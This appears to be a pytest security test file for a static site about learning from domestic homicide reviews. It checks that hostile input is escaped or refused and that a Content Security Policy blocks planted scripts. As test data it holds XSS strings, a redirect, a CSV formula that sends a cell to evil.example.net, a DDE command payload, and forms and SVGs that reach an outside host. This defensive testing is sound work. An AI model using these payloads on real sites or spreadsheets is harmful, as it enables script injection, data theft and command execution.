"""What a hostile setting, a careless paste or two scheduled builds can do:
each must end in a clear error naming the file (and `site/` untouched), or in
a site where nothing hostile is live and nothing leaves the browser.

One section per kind of attack; the personal-data forms are in
test_personal_data.py, and control characters with the other content
mistakes in test_validation.py.
"""

from __future__ import annotations

import csv
import io
import json
import os
import re
import shutil
import signal
import subprocess
import sys
import threading
import time
from html.parser import HTMLParser
from pathlib import Path
from xml.etree import ElementTree

import pytest
from playwright.sync_api import expect

from conftest import BUILD_EPOCH, build, make_project, serve
from macros.render import site_folder

PLANTED = '"><script>window.lbPwned=1</script><img src=x onerror="window.lbPwned=2">'


class _LiveCode(HTMLParser):
    """Everything in a page that could run or fetch: script elements, event
    handler attributes, script addresses and elements that load from elsewhere."""

    def __init__(self, site: Path, page: Path):
        super().__init__()
        self.site, self.page = site, page
        self.found: list[str] = []

    def handle_starttag(self, tag, attrs):
        attributes = dict(attrs)
        for name, value in attributes.items():
            if name.startswith("on"):
                self.found.append(f"<{tag} {name}=...>")
            if name in ("href", "src", "action", "formaction") and (value or "").strip().lower().startswith(("javascript:", "data:text")):
                self.found.append(f"<{tag} {name}={value!r}>")
        if tag == "script":
            src = attributes.get("src")
            if src is None:
                if attributes.get("type") != "application/json":
                    self.found.append("<script> with no src")
            elif "//" in src or not self._is_site_file(src):
                self.found.append(f"<script src={src!r}> that is not a file of the site")
        if tag in ("img", "iframe", "object", "embed", "frame") and "//" in (attributes.get("src") or attributes.get("data") or "//"):
            self.found.append(f"<{tag}> loading {attributes.get('src') or attributes.get('data')!r}")


    def _is_site_file(self, address: str) -> bool:
        # The 404 page links from the site's root (these sites are built for "/").
        base = self.site if address.startswith("/") else self.page.parent
        return (base / address.split("?")[0].lstrip("/")).resolve().is_file()


def live_code(site: Path) -> dict[str, list[str]]:
    found = {}
    for page in site.rglob("*.html"):
        parser = _LiveCode(site, page)
        parser.feed(page.read_text(encoding="utf-8"))
        if parser.found:
            found[page.relative_to(site).as_posix()] = parser.found
    return found


# -- 1. settings as script ---------------------------------------------------------------

TEXT_SETTINGS = {
    "site_name: Learning from reviews": f"site_name: '{PLANTED}'",
    "site_description: Learning from domestic homicide and related reviews, for practitioners, trainers and partnerships.":
        f"site_description: '{PLANTED}'",
    'copyright: ""': f"copyright: '{PLANTED}'",
    "    partnership: Example Community Safety Partnership": f"    partnership: '{PLANTED} *CSP*'",
    "    footer_text: Learning from reviews is shared so that practice changes and future deaths are prevented.":
        f"    footer_text: '{PLANTED}'",
    "    - name: National Domestic Abuse Helpline (Refuge)": f"    - name: '{PLANTED}'",
}


@pytest.fixture(scope="module")
def hostile_settings_site(tmp_path_factory) -> Path:
    project = make_project(tmp_path_factory.mktemp("hostile-settings"), settings=TEXT_SETTINGS)
    result = build(project)
    assert result.returncode == 0, result.output
    return result.site


def test_text_settings_are_printed_as_text_everywhere(hostile_settings_site):
    assert live_code(hostile_settings_site) == {}
    home = (hostile_settings_site / "index.html").read_text(encoding="utf-8")
    assert "&lt;script&gt;window.lbPwned=1&lt;/script&gt;" in home
    statement = (hostile_settings_site / "accessibility/index.html").read_text(encoding="utf-8")
    # Settings in a hand-written page are literal Markdown too: no emphasis.
    assert "*CSP*" in statement and "<em>CSP</em>" not in statement
    feed = ElementTree.parse(hostile_settings_site / "feed.xml").getroot()
    assert PLANTED in "".join(feed.itertext())  # XML text, escaped by the XML writer


def test_text_settings_never_run_in_the_browser(page, hostile_settings_site, page_errors):
    dialogs: list[str] = []
    page.on("dialog", lambda dialog: (dialogs.append(dialog.message), dialog.dismiss()))
    with serve(hostile_settings_site) as url:
        for address in ("", "accessibility/", "briefs/familial-homicide-in-a-care-home/",
                        "feedback/", "404.html"):
            page.goto(url + address, wait_until="networkidle")
            assert page.evaluate("window.lbPwned") is None, address
            expect(page.get_by_text("window.lbPwned=1").first).to_be_attached()
    assert dialogs == []
    assert not [e for e in page_errors if "Content Security Policy" in e]


REFUSED_SETTINGS = [
    # (the line replaced, what replaces it, the field named, words of the message)
    ("  logo: assets/logo.svg", '  logo: "assets/logo.svg\\"><script>x</script>"', "theme.logo", "is not the name of a"),
    ("  logo: assets/logo.svg", "  logo: ../../../etc/logo.svg", "theme.logo", "is not the name of a"),
    ("  logo: assets/logo.svg", "  logo: assets/missing.svg", "theme.logo", "which does not exist"),
    ("    contact_email: community.safety@example.org", "    contact_email: '\"><script>x</script>@example.org'",
     "extra.site.contact_email", "is not an email address"),
    ("    contact_email: community.safety@example.org", "    contact_email: 'a@example.org?subject=x'",
     "extra.site.contact_email", "is not an email address"),
    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: mailto:someone@example.org",
     "extra.site.quick_exit_url", 'uses "mailto:", which is not allowed'),
    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: tel:999",
     "extra.site.quick_exit_url", 'uses "tel:", which is not allowed'),
    ("    quick_exit_url: https://www.bbc.co.uk/weather", "    quick_exit_url: http://www.bbc.co.uk/weather",
     "extra.site.quick_exit_url", 'uses "http:", which is not allowed'),
    ("    partnership: Example Community Safety Partnership", '    partnership: "Example\\u202e CSP"',
     "extra.site.partnership", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
    ("site_name: Learning from reviews", 'site_name: "Learning\\x1b[2J from reviews"', "site_name", "U+001B (ESCAPE)"),
    # A helpline typed wrong is a wrong number on every page: "tel:11623" for "116 I23".
    ("        phone: 116 123", "        phone: 116 I23", "extra.site.helplines[4].phone", "is not a phone number"),
    ("        phone: 116 123", '        phone: "javascript:alert(1)"', "extra.site.helplines[4].phone", "is not a phone number"),
    ("        phone: 0800 999 5428", "        phone: 0800 999 54281", "extra.site.helplines[3].phone", "has 12 digits"),
    ("        phone: 0800 999 5428", "        phone: 0800 999", "extra.site.helplines[3].phone", "has 7 digits"),
]


@pytest.mark.parametrize("old, new, field, words", REFUSED_SETTINGS, ids=[f"{c[2]}:{c[1].strip()[:30]}" for c in REFUSED_SETTINGS])
def test_a_hostile_setting_is_refused_with_file_line_and_field(tmp_path, old, new, field, words):
    project = make_project(tmp_path / "p", settings={old: new})
    site = project / "site"
    site.mkdir()
    (site / "index.html").write_text("the last good site", encoding="utf-8")
    result = build(project)
    assert result.returncode == 1
    line = next(i for i, text in enumerate((project / "mkdocs.yml").read_text(encoding="utf-8").splitlines(), 1) if text == new)
    assert f"mkdocs.yml:{line}: {field}: " in result.output, result.output
    assert words in result.output
    assert "Traceback" not in result.output and "\x1b[2J" not in result.output
    assert sorted(p.name for p in site.iterdir()) == ["index.html"]


@pytest.mark.parametrize("address, message", [
    ('https://x.example/"><script>window.lbPwned=1</script>', "mkdocs.yml:7: site_url: "),
    ("https://x.example/a b/", "mkdocs.yml:7: site_url: "),
    ("https://x.example/?next=/", "mkdocs.yml:7: site_url: "),
    # MkDocs refuses an address with no http(s) itself, before our checks run.
    ("javascript:alert(1)//", "Config value 'site_url': The URL isn't valid"),
])
def test_a_hostile_site_address_is_refused(tmp_path, address, message):
    project = make_project(tmp_path / "p")
    result = build(project, env={"SITE_URL": address})
    assert result.returncode == 1
    assert message in result.output, result.output
    if message.startswith("mkdocs.yml"):
        assert "It comes from the environment variable SITE_URL." in result.output
    assert "Traceback" not in result.output
    assert not (project / "site").exists()


# -- 2. a policy that allows only the site's own script files --------------------------------


def _policy_from(file: str, text: str) -> str:
    patterns = {
        "_headers": r"^\s*Content-Security-Policy: (.+)$",
        ".htaccess": r'Header always set Content-Security-Policy "([^"]+)"',
        "security-headers.nginx.conf": r'add_header Content-Security-Policy "([^"]+)" always;',
    }
    return re.search(patterns[file], text, flags=re.M).group(1)


def _plant_inline_script(site: Path, page: str, *, keep_meta: bool) -> None:
    target = site / page
    html = target.read_text(encoding="utf-8")
    if not keep_meta:
        html, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
        assert removed == 1
    html = html.replace("</main>", "<script>window.lbPlanted = true;</script></main>", 1)
    target.write_text(html, encoding="utf-8")


@pytest.mark.parametrize("policy_from", ["meta", "_headers", ".htaccess", "security-headers.nginx.conf"])
def test_the_policy_blocks_an_inline_script_that_reaches_a_page(page, built_site, tmp_path, policy_from, page_errors):
    site = shutil.copytree(built_site, tmp_path / "site")
    headers = {}
    if policy_from != "meta":
        headers["Content-Security-Policy"] = _policy_from(policy_from, (site / policy_from).read_text(encoding="utf-8"))
    _plant_inline_script(site, "about-reviews/index.html", keep_meta=policy_from == "meta")
    with serve(site, headers=headers) as url:
        page.goto(url + "about-reviews/", wait_until="networkidle")
        assert page.evaluate("window.lbPlanted") is None
        # The page's own scripts still run: the theme's and ours.
        assert page.evaluate("document.documentElement.classList.contains('lb-js')")
        assert page.evaluate("typeof window.__md_get") == "function"
    assert any("Content Security Policy" in error for error in page_errors), page_errors


def test_the_planted_script_runs_without_the_policy(page, built_site, tmp_path):
    """The control for the test above: the same planted script, no policy, runs."""
    site = shutil.copytree(built_site, tmp_path / "site")
    _plant_inline_script(site, "about-reviews/index.html", keep_meta=False)
    with serve(site) as url:
        page.goto(url + "about-reviews/", wait_until="networkidle")
        assert page.evaluate("window.lbPlanted") is True


def test_no_page_holds_an_inline_script_or_a_foreign_one(built_site, fixture_site):
    assert live_code(built_site) == {}
    assert live_code(fixture_site) == {}


def test_a_theme_feature_that_prints_an_inline_script_is_refused(tmp_path):
    project = make_project(tmp_path / "p", settings={
        "  generator: false": "  generator: false\n  analytics:\n    provider: google\n    property: G-ABCDEF1234",
    })
    site = project / "site"
    site.mkdir()
    (site / "index.html").write_text("the last good site", encoding="utf-8")
    result = build(project)
    assert result.returncode == 1
    assert "holds an inline script" in result.output and "turn it off in mkdocs.yml" in result.output
    assert "Traceback" not in result.output
    assert sorted(p.name for p in site.iterdir()) == ["index.html"]


# -- 3. spreadsheet formulas in the CSV ----------------------------------------------------

FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def test_no_csv_cell_starts_a_formula_and_the_json_keeps_the_text(fixture_site):
    text = (fixture_site / "recommendations/recommendations.csv").read_text(encoding="utf-8")
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(FORMULA_START), (column, value)
    hostile = {row["id"]: row for row in rows if row["brief_slug"] == "hostile"}
    assert hostile["hostile#1"]["text"] == "'" + '=HYPERLINK("https://evil.example.net/?"&A1, "Click for details")'
    assert hostile["hostile#1"]["lead"] == "'@SUM(1+1)*cmd|' /C calc'!A0"
    assert hostile["hostile#1"]["evidence"] == "'+1+1 cases audited"
    assert hostile["hostile#2"]["text"] == "'-2+3 is not a number but a formula"
    records = json.loads((fixture_site / "recommendations/recommendations.json").read_text(encoding="utf-8"))
    exact = {r["id"]: r for r in records["recommendations"]}
    assert exact["hostile#1"]["text"] == '=HYPERLINK("https://evil.example.net/?"&A1, "Click for details")'
    assert exact["hostile#1"]["lead"] == "@SUM(1+1)*cmd|' /C calc'!A0"
    assert exact["hostile#2"]["lead"] == "=1+1"


# -- 6. two builds at once, a killed build, a folder that cannot be written ---------------------




def _files(folder: Path) -> dict[str, int]:
    return {p.relative_to(folder).as_posix(): p.stat().st_size for p in folder.rglob("*") if p.is_file()}


def _start_build(project: Path) -> subprocess.Popen:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": BUILD_EPOCH}
    return subprocess.Popen([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project, env=env,
                            stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)


def _leftovers(project: Path) -> list[str]:
    return sorted(p.name for p in project.iterdir() if p.name.startswith(("site.building", "site.previous")))


@pytest.fixture(scope="module")
def built_project(tmp_path_factory) -> tuple[Path, dict[str, int]]:
    project = make_project(tmp_path_factory.mktemp("concurrent"))
    result = build(project)
    assert result.returncode == 0, result.output
    return project, _files(project / "site")


def test_two_builds_at_once_both_finish_and_the_site_is_whole(built_project):
    project, expected = built_project
    for attempt in range(3):
        first, second = _start_build(project), _start_build(project)
        outputs = [process.communicate(timeout=600)[0] for process in (first, second)]
        assert first.returncode == 0 and second.returncode == 0, outputs
        assert _files(project / "site") == expected, attempt
        assert _leftovers(project) == []


def test_the_site_is_never_missing_while_a_build_swaps_it_in(built_project):
    project, _ = built_project
    index = project / "site" / "index.html"
    missing, done = [], threading.Event()

    def watch():
        while not done.is_set():
            if not index.is_file():
                missing.append(time.monotonic())

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        result = build(project)
    finally:
        done.set()
        watcher.join()
    assert result.returncode == 0, result.output
    assert missing == []


def test_the_swap_is_one_atomic_exchange_here(tmp_path):
    (tmp_path / "a").mkdir()
    (tmp_path / "a" / "old").write_text("old")
    (tmp_path / "b").mkdir()
    (tmp_path / "b" / "new").write_text("new")
    assert site_folder._exchange(tmp_path / "b", tmp_path / "a") is True
    assert [p.name for p in (tmp_path / "a").iterdir()] == ["new"]
    assert [p.name for p in (tmp_path / "b").iterdir()] == ["old"]


def test_a_killed_build_leaves_the_site_and_the_next_build_clears_up(built_project):
    project, expected = built_project
    process = _start_build(project)
    deadline = time.monotonic() + 120
    while not any((project / name / "assets").exists() for name in _leftovers(project)):
        assert process.poll() is None, "the build finished before it could be killed"
        assert time.monotonic() < deadline, "no staging folder appeared"
        time.sleep(0.01)
    process.send_signal(signal.SIGKILL)
    process.wait(timeout=60)
    assert _files(project / "site") == expected
    assert _leftovers(project), "the killed build's staging folder is left"
    result = build(project)
    assert result.returncode == 0, result.output
    assert _files(project / "site") == expected
    assert _leftovers(project) == []


def _being_deleted(project: Path) -> list[str]:
    return sorted(p.name for p in project.iterdir() if p.name.startswith(".site.deleting-"))


def test_the_replaced_site_is_deleted_after_the_build_has_ended(tmp_path, monkeypatch):
    # Deleting an old site of 25,000 files took seconds; the build hands it to
    # a detached process and returns at once.
    old = tmp_path / ".site.deleting-1-test"
    (old / "briefs").mkdir(parents=True)
    (old / "briefs" / "index.html").write_text("the old site", encoding="utf-8")
    real_rmtree = shutil.rmtree

    def slow_rmtree(path, *args, **kwargs):
        time.sleep(2)
        real_rmtree(path, *args, **kwargs)

    monkeypatch.setattr(shutil, "rmtree", slow_rmtree)
    started = time.monotonic()
    site_folder._delete_later(old)
    assert time.monotonic() - started < 1.5, "the build waited for the old site to be deleted"
    assert old.exists()
    deadline = time.monotonic() + 30
    while old.exists():
        assert time.monotonic() < deadline, "the old site was never deleted"
        time.sleep(0.05)


def test_only_folders_a_build_made_are_cleared_as_leftovers(tmp_path):
    # A folder name with pattern characters, and a person's own backup, are left alone.
    target = tmp_path / "out[12A]"
    theirs = ["out1.building-999", ".outA.deleting-keep", "out[12A].previous", "out[12A].previous-notes",
              "out[12A].building", ".out[12A].deleting-notes"]
    ours = ["out[12A].building-123", "out[12A].previous-45", ".out[12A].deleting-6-0a1b2c3d"]
    for name in theirs + ours:
        (tmp_path / name).mkdir()
    folder = site_folder.SiteFolder(target, notice=lambda message: None)
    folder.open()
    folder.discard()
    assert {p.name for p in tmp_path.iterdir()} == {*theirs, ".out[12A].lock"}


def test_with_no_process_to_spare_the_replaced_site_is_deleted_by_the_build(tmp_path, monkeypatch):
    old = tmp_path / ".site.deleting-1-test"
    (old / "assets").mkdir(parents=True)

    def no_fork():
        raise BlockingIOError(11, "Resource temporarily unavailable")

    monkeypatch.setattr(os, "fork", no_fork)
    site_folder._delete_later(old)
    assert not old.exists()


def test_a_replaced_site_left_half_deleted_is_cleared_by_the_next_build(built_project):
    project, expected = built_project
    left = project / ".site.deleting-12345-0a0b0c0d"  # its deleting process was killed
    (left / "assets").mkdir(parents=True)
    (left / "assets" / "old.css").write_text("body{}", encoding="utf-8")
    result = build(project)
    assert result.returncode == 0, result.output
    assert _files(project / "site") == expected
    deadline = time.monotonic() + 60  # this build's own replaced site goes too
    while _being_deleted(project):
        assert time.monotonic() < deadline, _being_deleted(project)
        time.sleep(0.05)
    assert _leftovers(project) == []


def test_a_second_build_says_that_it_waits(built_project):
    import fcntl

    project, expected = built_project
    lines: list[str] = []
    with open(project / ".site.lock", "a+") as lock:
        fcntl.flock(lock, fcntl.LOCK_EX)  # as a first build would
        process = _start_build(project)
        reader = threading.Thread(target=lambda: lines.extend(process.stdout))
        reader.start()
        waiting = f"Another build of {project / 'site'} is running; waiting for it to finish."
        deadline = time.monotonic() + 120
        while not any(waiting in line for line in lines):
            assert process.poll() is None, "".join(lines)
            assert time.monotonic() < deadline, "".join(lines)
            time.sleep(0.05)
        assert _leftovers(project) == [], "no staging folder while another build holds the lock"
        fcntl.flock(lock, fcntl.LOCK_UN)
    process.wait(timeout=600)
    reader.join()
    assert process.returncode == 0, "".join(lines)
    assert _files(project / "site") == expected


def _make_unwritable(folder: Path) -> callable:
    """Make `folder` refuse new files, even to root; returns how to undo it."""
    if os.geteuid() != 0:
        folder.chmod(0o555)
        return lambda: folder.chmod(0o755)
    subprocess.run(["chattr", "+i", str(folder)], check=True)
    return lambda: subprocess.run(["chattr", "-i", str(folder)], check=True)


@pytest.mark.parametrize("blocked_by", ["read-only folder", "a file in the way"])
def test_a_place_the_site_cannot_be_written_gives_a_clear_message(tmp_path, blocked_by):
    project = make_project(tmp_path / "p")
    if blocked_by == "a file in the way":
        (project / "output").write_text("not a folder")
        target = project / "output" / "site"
        undo = lambda: None  # noqa: E731
    else:
        (project / "output").mkdir()
        target = project / "output" / "site"
        undo = _make_unwritable(project / "output")
    try:
        result = build(project, target)
    finally:
        undo()
    assert result.returncode == 1
    assert f"The site cannot be written to {target}" in result.output, result.output
    assert "mkdocs build -d /path/to/site" in result.output
    assert "Traceback" not in result.output


# -- 8. quiz answers never reach the server -------------------------------------------------


@pytest.mark.parametrize("scripts", ["off", "not yet run"])
def test_pressing_enter_in_a_quiz_sends_nothing(browser, site_url, scripts):
    context = browser.new_context(java_script_enabled=scripts != "off")
    page = context.new_page()
    if scripts == "not yet run":  # the deferred bundle never arrives
        page.route("**/site-bundle.js", lambda route: route.abort())
    requests: list[str] = []
    page.on("request", lambda request: requests.append(request.url))
    page.goto(site_url + "quizzes/think-family/", wait_until="networkidle")
    requests.clear()
    assert page.locator("form input[type=radio], form input[type=checkbox]").count() == 0
    first = page.locator("[data-lb-question] input").first
    first.check()
    first.press("Enter")
    first.press("Space")
    page.wait_for_load_state("networkidle")
    assert page.url == site_url + "quizzes/think-family/"
    assert requests == []
    context.close()


# -- 4. every output format stays well formed with hostile content ------------------------------

_DATA_SCRIPT = re.compile(r"^(lb[A-Za-z]+(?:\.[a-z]+)?)\((.*)\);\s*$", re.S)


@pytest.mark.parametrize("which", ["built_site", "fixture_site", "hostile_settings_site"])
def test_every_data_output_parses(request, which):
    site: Path = request.getfixturevalue(which)
    xml = list(site.rglob("*.xml"))
    assert {p.name for p in xml} >= {"feed.xml", "sitemap.xml"}
    for path in xml:
        ElementTree.parse(path)  # raises on anything not well formed
    for path in site.rglob("*.json"):
        json.loads(path.read_text(encoding="utf-8"))
    data_scripts = [site / "recommendations/data.js", *(site / "search").rglob("*.js")]
    for path in data_scripts:
        match = _DATA_SCRIPT.match(path.read_text(encoding="utf-8"))
        assert match, f"{path} is one call with JSON data"
        json.loads("[" + match.group(2) + "]")
    for path in site.rglob("*.csv"):
        rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8"))))
        assert rows and all(len(row) == len(rows[0]) for row in rows)


# -- 1 (continued). settings the theme prints as HTML, and settings that are missing or odd ---------

REDIRECT = '<meta http-equiv="refresh" content="0;url=https://evil.example/">'


@pytest.mark.parametrize("old, new, words", [
    ("  generator: false", f"  generator: false\n  scope: '/x\"></script>{REDIRECT}<link x=\"'",
     "a <meta http-equiv=refresh> (a redirect)"),
    ("  generator: false", "  generator: false\n  homepage: 'javascript:alert(3)'", "a javascript: address"),
    ("  generator: false", "  generator: false\n  alternate:\n    - name: French\n      link: 'javascript:alert(2)'\n      lang: fr",
     "a javascript: address"),
    ("  generator: false", "  generator: false\n  polyfills:\n    - https://cdn.example.net/polyfill.js",
     "which would reach another site"),
], ids=["extra.scope", "extra.homepage", "extra.alternate", "extra.polyfills"])
def test_a_setting_the_theme_prints_as_html_cannot_smuggle_anything_in(tmp_path, old, new, words):
    project = make_project(tmp_path / "p", settings={old: new})
    result = build(project)
    assert result.returncode == 1, result.output
    assert words in result.output and "remove it" in result.output
    assert "Traceback" not in result.output and not (project / "site").exists()


SVG = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">{}<path d="M3 6h18v2H3z"/></svg>'


@pytest.mark.parametrize("inside, words", [
    ("<script>document.title='pwned'</script>", "a <script> element"),
    ('<g onload="document.title=1"></g>', "an event handler (onload=)"),
    ('<image href="https://evil.example/track.png" width="1" height="1"/>', "which points outside the picture"),
    ('<use xlink:href="https://evil.example/sprite.svg#a"/>', "which points outside the picture"),
    ('<foreignObject><div xmlns="http://www.w3.org/1999/xhtml">x</div></foreignObject>', "a <foreignobject> element"),
    ('<rect style="fill:url(https://evil.example/p.svg#g)" width="2" height="2"/>', "a style with url("),
    ('<a href="javascript:alert(1)"><rect width="2" height="2"/></a>', "a javascript: address"),
], ids=["script", "handler", "image", "use", "foreignObject", "style", "javascript"])
def test_an_svg_in_docs_that_could_run_or_track_is_refused(tmp_path, inside, words):
    """Opened on its own, an SVG is a page: a logo with a script ran it on the
    site's own domain, with no policy on a host that cannot send headers."""
    project = make_project(tmp_path / "p")
    (project / "docs/assets/logo.svg").write_text(SVG.format(inside), encoding="utf-8")
    site = project / "site"
    site.mkdir()
    (site / "index.html").write_text("the last good site", encoding="utf-8")
    result = build(project)
    assert result.returncode == 1, result.output
    assert "docs/assets/logo.svg holds" in result.output and words in result.output, result.output
    assert "Traceback" not in result.output
    assert sorted(p.name for p in site.iterdir()) == ["index.html"]


def test_an_svg_with_only_shapes_inner_references_and_an_embedded_picture_is_published(tmp_path):
    project = make_project(tmp_path / "p")
    inside = ('<defs><linearGradient id="g"><stop offset="0" stop-color="#fff"/></linearGradient></defs>'
              '<use href="#g"/><rect style="fill:url(#g)" width="2" height="2"/>'
              '<image href="data:image/png;base64,iVBORw0KGgo=" width="1" height="1"/>')
    (project / "docs/assets/logo.svg").write_text(SVG.format(inside), encoding="utf-8")
    result = build(project)
    assert result.returncode == 0, result.output


@pytest.mark.parametrize("markup, words", [
    ('<form action="https://evil.example/collect"><button>Send</button></form>', '<form action="https://evil.example/collect">'),
    ('<form><button formaction="https://evil.example/c">Send</button></form>', "<button formaction="),
    ('<video poster="https://evil.example/p.png"></video>', "<video poster="),
    ('<a href="/x/" ping="https://evil.example/p">x</a>', "<a ping="),
    ('<svg><use href="https://evil.example/s.svg#a"/></svg>', "<use href="),
    ('<p style="background:url(https://evil.example/b.png)">x</p>', "a style with url(https://evil.example/b.png)"),
], ids=["form", "formaction", "poster", "ping", "svg-use", "style-url"])
def test_a_hand_written_page_that_would_reach_another_site_is_refused(tmp_path, markup, words):
    """The policy would block each of these; the build refuses them first, so a
    page never depends on the policy being there (a <meta> can be lost in a copy)."""
    project = make_project(tmp_path / "p")
    page = project / "docs/about-reviews.md"
    page.write_text(page.read_text(encoding="utf-8") + "\n\n" + markup + "\n", encoding="utf-8")
    result = build(project)
    assert result.returncode == 1, result.output
    assert "The page made from about-reviews.md holds" in result.output and words in result.output, result.output
    assert "Traceback" not in result.output


def test_an_aligned_table_column_is_aligned_without_breaking_the_policy(page, fixture_site_url, page_errors):
    page.goto(fixture_site_url + "briefs/welsh-and-quotes/", wait_until="networkidle")
    cells = page.locator(".lb-brief table").first.locator("tbody tr").first.locator("td")
    aligned = cells.evaluate_all("cs => cs.map(c => getComputedStyle(c).textAlign)")
    assert aligned == ["left", "right", "center"], aligned
    assert page_errors == [], page_errors


def test_navigation_titles_are_text(tmp_path):
    project = make_project(tmp_path / "p", settings={
        "  - Home: index.md": f"  - '{REDIRECT}<script data-src=\"x\">window.lbPwned=1</script>Home': index.md",
    })
    result = build(project)
    assert result.returncode == 0, result.output
    assert live_code(result.site) == {}
    page = (result.site / "about-reviews/index.html").read_text(encoding="utf-8")
    assert "&lt;meta http-equiv=&#34;refresh&#34;" in page or "&lt;meta http-equiv=&quot;refresh&quot;" in page
    assert REDIRECT not in page


@pytest.mark.parametrize("old, new, field, words", [
    ("  language: en", "  language: english", "theme.language", '"english" is not one the theme has.'),
    ("  font: false  # no Google Fonts: pages make no third-party requests",
     "  font: false\n  icon:\n    logo: fontawesome/brands/gitlabb", "theme.icon.logo", '"fontawesome/brands/gitlabb" is not one the theme has.'),
    ("site_name: Learning from reviews", "INHERIT: base.yml\nsite_name: Learning from reviews", "INHERIT", "is not supported"),
])
def test_theme_settings_that_name_missing_files_are_reported_not_crashed(tmp_path, old, new, field, words):
    project = make_project(tmp_path / "p", settings={old: new})
    (project / "base.yml").write_text("site_description: Inherited\n", encoding="utf-8")
    result = build(project)
    assert result.returncode == 1
    assert f"{field}: {words}" in result.output, result.output
    assert "Traceback" not in result.output


@pytest.mark.parametrize("address, words", [
    ("", "site_url: is empty (the environment variable SITE_URL is set, but empty)."),
    ("https://x.example/sub ", 'site_url: "https://x.example/sub " is not a web address'),
])
def test_an_empty_or_padded_site_address_is_refused(tmp_path, address, words):
    project = make_project(tmp_path / "p")
    result = build(project, env={"SITE_URL": address})
    assert result.returncode == 1
    assert f"mkdocs.yml:7: {words}" in result.output, result.output


# -- 6 (continued). a site/ that is a link, and Ctrl-C in the middle -------------------------------------


@pytest.mark.parametrize("folder, relation", [
    ("quizzes", "is the watched folder quizzes/"),
    ("macros", "is the watched folder macros/"),
    ("briefs/site", "is inside the watched folder briefs/"),
])
def test_a_site_folder_over_the_authors_files_is_refused(tmp_path, folder, relation):
    """Publishing replaces the whole site folder: `mkdocs build -d quizzes`
    swapped the quizzes for the site and deleted them."""
    project = make_project(tmp_path / "p")
    def files():
        return {p.relative_to(project): p.read_bytes() for p in project.rglob("*")
                if p.is_file() and "__pycache__" not in p.parts}

    before = files()
    result = build(project, project / folder)
    assert result.returncode == 1, result.output
    assert f"site_dir: {project / folder} {relation}. Publishing replaces" in result.output, result.output
    assert "Traceback" not in result.output
    assert files() == before


def test_a_site_folder_that_is_a_link_stays_a_link_to_the_new_site(tmp_path):
    project = make_project(tmp_path / "p")
    web_root = tmp_path / "www"
    web_root.mkdir()
    (web_root / "old.html").write_text("the last site", encoding="utf-8")
    (project / "site").symlink_to(web_root)
    result = build(project)
    assert result.returncode == 0, result.output
    assert (project / "site").is_symlink() and (project / "site").resolve() == web_root
    assert (web_root / "index.html").is_file() and not (web_root / "old.html").exists()
    assert not [p.name for p in tmp_path.iterdir() if ".building" in p.name or ".previous" in p.name]


def _big_project(tmp_path) -> tuple[Path, dict]:
    """600 briefs, built once (enough for the build to use its workers), and that site's files."""
    minimal = (Path(__file__).parent / "fixtures/briefs/valid/minimal.yml").read_text(encoding="utf-8")
    briefs = {f"brief-{n:04d}.yml": minimal.replace("A minimal brief", f"Brief number {n}") for n in range(600)}
    project = make_project(tmp_path / "p", briefs=briefs)
    first = build(project)
    assert first.returncode == 0, first.output
    return project, _files(project / "site")


def _staged(project: Path, count: int):
    """The moment the build's own folder holds `count` files."""
    def reached() -> bool:
        folders = [p for p in project.iterdir() if p.name.startswith("site.building")]
        try:
            return bool(folders) and sum(1 for _ in folders[0].rglob("*")) >= count
        except FileNotFoundError:  # published or discarded while being counted: the loop sees the build end
            return False
    return reached


def _start_build_until(project: Path, moment) -> subprocess.Popen:
    env = {**os.environ, "NO_MKDOCS_2_WARNING": "1", "SOURCE_DATE_EPOCH": BUILD_EPOCH}
    process = subprocess.Popen([sys.executable, "-m", "mkdocs", "build", "--strict"], cwd=project, env=env,
                               stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, start_new_session=True)
    deadline = time.monotonic() + 120
    while not moment() and process.poll() is None:
        assert time.monotonic() < deadline
        time.sleep(0.005)
    return process


def test_ctrl_c_in_the_middle_of_a_big_build_stops_it_promptly(tmp_path):
    """Ctrl-C reaches the whole process group, workers included. The build
    must stop soon, every time, and leave the last good site as it was."""
    project, before = _big_project(tmp_path)
    # Interrupted while reading, while the theme renders, while the workers write.
    for moment in (lambda: any(p.name.startswith("site.building") for p in project.iterdir()),
                   _staged(project, 1), _staged(project, 50), _staged(project, 400), _staged(project, 900)):
        process = _start_build_until(project, moment)
        os.killpg(process.pid, signal.SIGINT)
        output = process.communicate(timeout=60)[0]  # a hang fails here
        assert "Traceback" not in output, output
        assert _files(project / "site") == before


@pytest.mark.parametrize("stop", [signal.SIGTERM, signal.SIGHUP, signal.SIGKILL], ids=["SIGTERM", "SIGHUP", "SIGKILL"])
def test_a_build_stopped_by_a_signal_to_it_alone_ends_quietly_with_its_workers(tmp_path, stop):
    """`kill`, `timeout`, a closed terminal or an out-of-memory kill reach the
    build's own process only. Its workers printed a traceback each, finding
    nobody to hand their pages to, and lived on until then."""
    project, before = _big_project(tmp_path)
    process = _start_build_until(project, _staged(project, 400))  # the workers are writing pages
    process.send_signal(stop)
    output = process.communicate(timeout=60)[0]  # the workers hold the output open too: this waits for them
    assert "Traceback" not in output and "Error" not in output, output
    deadline = time.monotonic() + 10  # a killed worker has closed its output a moment before it is gone
    while _running_in_group(process.pid) and time.monotonic() < deadline:
        time.sleep(0.05)
    assert _running_in_group(process.pid) == []  # nothing of the build is left running
    assert _files(project / "site") == before


def _running_in_group(group: int) -> list[int]:
    """Processes of a process group still running (a zombie is finished, only not yet reaped)."""
    running = []
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except (OSError, IndexError):
            continue
        if int(fields[2]) == group and fields[0] != "Z":
            running.append(int(stat.parent.name))
    return running


def test_a_broken_override_template_is_named_with_its_line_and_the_site_is_kept(tmp_path):
